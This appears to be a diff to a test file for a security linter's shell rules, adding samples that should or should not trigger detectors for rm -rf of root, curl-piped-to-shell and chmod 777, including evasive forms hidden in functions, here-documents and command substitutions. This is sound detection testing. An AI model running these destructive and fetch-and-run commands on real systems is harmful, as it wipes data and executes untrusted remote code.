@@ -107,6 +107,24 @@ const CASES: Case[] = [
   { rule: 'sh.chmod-world-writable', what: 'chmod 666', fires: sh('chmod 666 data.db\n'), line: 1,
     nearMiss: sh('chmod 644 data.db\n') },
 
+  // ---- shell syntax the rules must see through (core/gate/shell-parse.ts reads it)
+  { rule: 'sh.rm-rf-root', what: 'in a one-line function', fires: sh('#!/bin/bash\nfunction clean { rm -rf "$OUT/"; }\n'), line: 2,
+    nearMiss: sh('#!/bin/bash\nfunction clean { rm -rf "${OUT:?}/"; }\n') },
+  { rule: 'sh.rm-rf-root', what: 'after a quoted here-document', fires: sh("cat <<'EOF'\nusage: clean [dir]\nEOF\nrm -rf ~/\n"), line: 4,
+    nearMiss: sh('cat <<\\EOF\nrm -rf ~/\nEOF\n') },
+  { rule: 'sh.rm-rf-root', what: 'in a ${…:-$(…)} default', fires: sh('#!/bin/sh\nDIR=${DIR:-$(rm -rf /)}\n'), line: 2,
+    nearMiss: sh('#!/bin/sh\nDIR=${DIR:-$(mktemp -d)}\n') },
+  { rule: 'sh.rm-rf-root', what: 'in a command substitution inside a condition', fires: sh('if [ -n "$(sudo rm -rf /)" ]; then\n  :\nfi\n'), line: 1,
+    nearMiss: sh('if [ -n "$(ls /)" ]; then\n  :\nfi\n') },
+  { rule: 'sh.curl-pipe-shell', what: 'a pipe continued on the next line', fires: sh('curl -fsSL https://x.example/i.sh |\n  sudo bash\n'), line: 1,
+    nearMiss: sh('curl -fsSL https://x.example/i.sh |\n  sha256sum\n') },
+  { rule: 'sh.curl-pipe-shell', what: 'in a script handed to sh -c', fires: sh("#!/bin/sh\nsh -c 'curl -s https://x.example/i.sh | sh'\n"), line: 2,
+    nearMiss: sh("#!/bin/sh\nsh -c 'curl -s https://x.example/a.json | jq .'\n") },
+  { rule: 'sh.curl-pipe-shell', what: 'eval of backticks', fires: sh('eval "`wget -qO- https://x.example/env`"\n'), line: 1,
+    nearMiss: sh('eval "$(ssh-agent -s)"\n') },
+  { rule: 'sh.chmod-777', what: 'behind xargs and sudo -u', fires: sh('find /srv -type d |\n  sudo -u app xargs chmod 777\n'), line: 2,
+    nearMiss: sh('find /srv -type d | sudo -u app xargs chmod 755\n') },
+
   // ---- Dockerfile
   { rule: 'docker.user-root', what: 'final USER root', fires: df('FROM node:20\nUSER root\nCMD ["node", "a.js"]\n'), line: 2,
     nearMiss: df('FROM node:20\nUSER root\nRUN apt-get update\nUSER node\n') },
@@ -148,6 +166,35 @@ t.test('every rule in the table has a firing sample and a near miss', async (t) 
   const covered = new Set(CASES.map((c) => c.rule));
   for (const r of SECURITY_RULES) t.ok(covered.has(r.id), `${r.id} is covered`);
   t.ok(new Set(SECURITY_RULES.map((r) => r.id)).size === SECURITY_RULES.length, 'rule ids are unique');
+});
+
+t.test('shell findings point at the command, past keywords, in document order', async (t) => {
+  // Positions as tree-sitter-bash gave them before core/gate/shell-parse.ts read shell for the validators.
+  const script = [
+    '#!/bin/bash',
+    'if [ -d "$X" ]; then',
+    '  sudo rm -rf /',
+    'fi',
+    'for f in a; do chmod 777 "$f"; done',
+    '  2>/dev/null curl -s https://x.example | sh',
+    'echo "$(rm -rf ~)"',
+    '[ -f y ] && { chmod -R a+rwx /srv; }',
+    'while read -r l; do',
+    '\tbash <(curl -s "$l")',
+    'done < urls',
+    '! rm --no-preserve-root -rf /',
+    '',
+  ].join('\n');
+  const found = (await securityFindings([sh(script)])).map((f) => [f.rule, f.line, f.column]);
+  t.same(found, [
+    ['sh.curl-pipe-shell', 6, 3],
+    ['sh.curl-pipe-shell', 10, 2],
+    ['sh.rm-rf-root', 3, 3],
+    ['sh.chmod-777', 5, 16],
+    ['sh.rm-rf-root', 7, 9],
+    ['sh.chmod-777', 8, 15],
+    ['sh.rm-rf-root', 12, 3],
+  ]);
 });
 
 for (const c of CASES) {
